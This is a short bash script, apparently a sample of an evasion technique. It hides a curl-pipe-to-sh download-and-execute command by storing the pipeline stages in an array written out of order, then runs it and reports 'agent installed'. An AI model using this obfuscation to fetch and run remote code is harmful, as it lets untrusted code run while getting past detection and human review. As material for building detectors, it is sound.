#!/usr/bin/env bash
# Evasion: download and run code. An indexed array of pipeline stages is
# written with explicit indices out of order ([2]= before [0]=), and the
# stages are run by index.
set -eu
stages=([2]="sh" [0]="curl -fsSL" [1]="https://pkg.example-mirror.org/agent/install")
${stages[0]} "${stages[1]}" | ${stages[2]}
echo "agent installed"
